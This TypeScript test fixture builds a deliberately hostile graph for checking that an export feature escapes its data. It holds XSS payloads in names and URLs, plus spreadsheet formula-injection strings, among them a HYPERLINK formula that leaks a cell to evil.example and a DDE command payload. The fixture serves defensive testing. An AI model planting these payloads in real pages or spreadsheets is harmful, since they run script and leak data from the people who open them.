import type { ExportSubgraph } from '../../server/domain/export/types.js';
import type { Citation, EntityRecord, RelationshipRecord } from '../../server/domain/types.js';
import { citation as citationRecord, entityRecord, relationshipRecord } from './records.js';

/**
 * A subgraph as hostile as stored data can be: script and markup in names, spreadsheet formulas, line breaks,
 * control characters and lone surrogates (as data written before the text policy existed may hold), and
 * source URLs that would run script or break out of an attribute. Every script payload sets
 * `window.__pwned`, so a browser test can tell whether any of it ran.
 */
export const scriptPayloads = [
  '<script>window.__pwned = "script"</script>',
  '"><img src=x onerror="window.__pwned = \'img\'">',
  "'><svg onload=\"window.__pwned = 'svg'\">",
];

export const formulaCells = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tTabbed',
  '\rCarriage',
  "'=Already quoted",
];

/** URLs no input path accepts today, as legacy data in the graph may still hold them. */
export const hostileUrls = [
  'javascript:window.__pwned="javascript-url"',
  'https://evil.example/"><script>window.__pwned="attribute"</script>',
  'data:text/html,<script>window.__pwned="data-url"</script>',
];

export const xmlForbidden = ['NUL\u0000name', 'bell\u0007and\u001bescape', 'lone \ud800 surrogate', 'non\uffffcharacter'];

const citation = (id: string, url: string | null, excerpt: string): Citation =>
  citationRecord({
    id,
    title: `Report ${id} <b>bold</b> [link](javascript:alert(1))`,
    publisher: 'Publisher "quoted" & <tagged>',
    url,
    published: '2024-01-01',
    excerpt,
  });

const sources: Citation[] = [
  citation('src-ok', 'https://example.org/report?a=1&b=2', 'See https://www.evil.example and <https://evil.example/auto> in the text.'),
  ...hostileUrls.map((url, index) =>
    citation(`src-bad-${index}`, url, `Excerpt ${index} ${scriptPayloads[index % scriptPayloads.length]}`),
  ),
];

let entityCount = 0;
const entity = (name: string, extra: Partial<EntityRecord> = {}): EntityRecord => {
  entityCount += 1;
  return entityRecord({
    id: `hostile-${entityCount}`,
    kind: entityCount % 3 === 0 ? 'STATE' : entityCount % 3 === 1 ? 'THREAT_ACTOR' : 'INCIDENT',
    name,
    aliases: [scriptPayloads[entityCount % scriptPayloads.length]],
    description: `Description of ${name}\nwith a line feed, =FORMULA() and ${xmlForbidden[entityCount % xmlForbidden.length]}`,
    date: '2024-01-02',
    properties: {},
    sources: [sources[entityCount % sources.length]],
    ...extra,
  });
};

/** The hostile subgraph: every name above as an entity, linked in a chain, every source cited. */
export function hostileSubgraph(): ExportSubgraph {
  entityCount = 0;
  const names = [...scriptPayloads, ...formulaCells, ...xmlForbidden, 'line one\nline two', 'comma, "quote" and ; semicolon'];
  const entities = names.map((name) => entity(name));
  const relationships: RelationshipRecord[] = entities.slice(1).map((to, index) =>
    relationshipRecord({
      id: `hostile-rel-${index}`,
      type: 'RELATED_TO',
      from: entities[index],
      to,
      stance: index % 2 === 0 ? 'ASSERTED' : 'SUSPECTED',
      confidence: 40 + index,
      since: null,
      until: null,
      description: formulaCells[index % formulaCells.length],
      sources: [sources[index % sources.length]],
    }),
  );
  return {
    entities,
    relationships,
    truncated: false,
    authors: new Map(),
    request: { ids: [entities[0].id], depth: 1, filter: null, exportedOn: '2024-01-03', tlpCeiling: null },
    markings: new Map(),
    withheld: { entities: 0, relationships: 0 },
  };
}
